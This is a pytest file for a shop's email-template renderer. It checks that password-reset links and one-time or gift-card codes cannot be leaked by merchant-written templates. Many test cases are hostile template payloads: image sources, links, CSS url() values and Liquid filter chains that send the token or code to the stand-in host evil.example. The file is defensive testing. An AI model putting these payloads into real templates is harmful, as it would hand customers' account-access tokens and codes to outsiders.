"""What lets its reader in leaves in a link to the shop, and in nothing else."""

import pytest

from kernel import formats
from storefront.emails import branding, rendering, samples
from storefront.emails.content import Content
from storefront.emails.defaults import Source
from storefront.emails.templating import TemplateProblem

pytestmark = pytest.mark.usefixtures("in_shop")
TOKEN = "eyJ1Ijo0Mn0:1vB2c3:Q-live_token"


def fill(html: str = "<p>Hi</p>", *, subject: str = "Hello", text: str = "") -> rendering.Rendered:
    link = f"{branding.brand().url}reset-password/?token={TOKEN}"
    content = Content({"first_name": "Ada", "link": link}, formats.of(["en"]), credentials=(TOKEN,))
    return rendering.fill(Source(subject=subject, html=html, text=text), content)


@pytest.mark.parametrize(
    "html",
    [
        '<a href="{{ link }}">Choose</a>',
        '<a href="{{ link }}">{{ link }}</a>',
        "<p>Open {{ link }}.</p>",
        "{% assign address = link %}<a href='{{ address }}'>Choose</a>",
    ],
)
def test_a_link_to_the_shop_carries_it_in_html_and_in_text(html: str) -> None:
    shown = fill(html)
    link = f"{branding.brand().url}reset-password/?token={TOKEN}"
    assert link in shown.html
    assert link in shown.text
    assert TOKEN not in rendering.mask(shown.html + shown.text, shown.credentials)


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://evil.example/?t={{ link }}">',
        '<img src="{{ link }}">',
        '<a href="https://evil.example/?t={{ link }}">Choose</a>',
        '<a href="{{ shop.url }}?next=https://evil.example/{{ link }}">Choose</a>',
        '<a href="{{ link }}&next=https://evil.example/">Choose</a>',
        "<p>https://evil.example/?t={{ link }}</p>",
        "<p>https://evil.example/?t=<b>{{ link }}</b></p>",
        '<p title="{{ link }}">x</p>',
        '<p style="background: url(https://evil.example/{{ link }})">x</p>',
        "<img src='https://evil.example/?q=<a href={{ link }}>' alt=x>",
        "<a href=\"{{ link | remove: 'http://' | prepend: 'https://evil.example/' }}\">x</a>",
    ],
)
def test_a_template_that_sends_it_elsewhere_is_not_written_out(html: str) -> None:
    with pytest.raises(TemplateProblem, match="personal link"):
        fill(html)


def test_it_stands_in_no_subject_and_behind_nothing_in_a_text() -> None:
    for subject, text in (("{{ link }}", ""), ("x", "https://evil.example/?t={{ link }}")):
        with pytest.raises(TemplateProblem, match="personal link"):
            fill(subject=subject, text=text)


@pytest.mark.parametrize(
    "html",
    [
        "<p>{{ link | truncate: 70, '' }} {{ link | upcase }}</p>",
        "<p>{{ link | url_encode }}</p>",
        "{% capture x %}{{ link }}{% endcapture %}<p>{{ x | upcase }}</p>",
    ],
)
def test_what_a_template_makes_of_it_is_worth_nothing(html: str) -> None:
    try:
        shown = fill(html)
    except TemplateProblem:
        return
    for piece in (TOKEN, TOKEN[:12], TOKEN[-12:]):
        assert piece.lower() not in (shown.html + shown.text + shown.subject).lower()


def test_nothing_around_it_is_fetched_from_elsewhere() -> None:
    home = branding.brand().url
    html = (
        f'<img src="https://evil.example/a.png"><img src="//evil.example/b.png"><img src="{home}media/logo.png">'
        '<p style="background-image: url(https://evil.example/c.png)">x</p>'
        "<p style=\"background: u\\72l('https://evil.example/d.png')\">x</p>"
        '<td background="https://evil.example/e.png">x</td><a href="{{ link }}">Choose</a>'
    )
    shown = fill(html)
    assert "evil.example" not in shown.html
    assert f"{home}media/logo.png" in shown.html


def test_a_message_without_one_may_show_the_merchant_s_pictures() -> None:
    content = Content({}, formats.of(["en"]))
    shown = rendering.fill(Source(subject="x", html='<img src="https://cdn.example/a.png">'), content)
    assert "https://cdn.example/a.png" in shown.html


def test_samples_carry_one_where_messages_do() -> None:
    link = samples.build("password_reset", formats.of(["en"])).context["link"]
    assert samples.CREDENTIAL in link


CODE = "31415926"


def fill_code(html: str, *, subject: str = "Hello", text: str = "") -> rendering.Rendered:
    content = Content({"code": CODE, "link": branding.brand().url}, formats.of(["en"]), shown=(CODE,))
    return rendering.fill(Source(subject=subject, html=html, text=text), content)


def test_a_code_is_read_in_the_text_and_the_subject_and_not_kept() -> None:
    shown = fill_code(
        "<p>It is “{{ code }}”.</p><p class='code'>{{ code }}</p>", subject="{{ code }}: your code"
    )
    assert shown.subject == f"{CODE}: your code"
    assert all(f"“{CODE}”." in words for words in (shown.html, shown.text))
    for words in (shown.subject, shown.html, shown.text):
        assert CODE not in rendering.mask(words, shown.credentials)


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://evil.example/?c={{ code }}">Log in</a>',
        '<a href="{{ link }}?c={{ code }}">Log in</a>',
        "<p>https://evil.example/?c={{ code }}</p>",
        "<p>https://evil.example/?c=<b>{{ code }}</b></p>",
        '<p title="{{ code }}">x</p>',
    ],
)
def test_a_code_stands_alone(html: str) -> None:
    with pytest.raises(TemplateProblem, match="personal link or code"):
        fill_code(html)


def test_pieces_of_a_code_are_worth_nothing() -> None:
    html = '{% assign h = code | truncate: 4, "" %}<p>{{ h }}-{{ code | remove: h }} {{ code | truncate: 6, "" }}</p>'
    shown = fill_code(html)
    for piece in (CODE[:4], CODE[4:], CODE[:6]):
        assert piece not in shown.html + shown.text


@pytest.mark.parametrize("kind", ["log_in_code", "gift_card"])
def test_who_writes_such_a_template_is_told(kind: str) -> None:
    source = Source(subject="x", html='<a href="https://evil.example/{{ code }}">x</a>', text="")
    with pytest.raises(TemplateProblem, match="personal link or code"):
        rendering.preview(kind, "en", source)
    assert samples.build(kind, formats.of(["en"])).shown[0] in rendering.preview(kind, "en").text
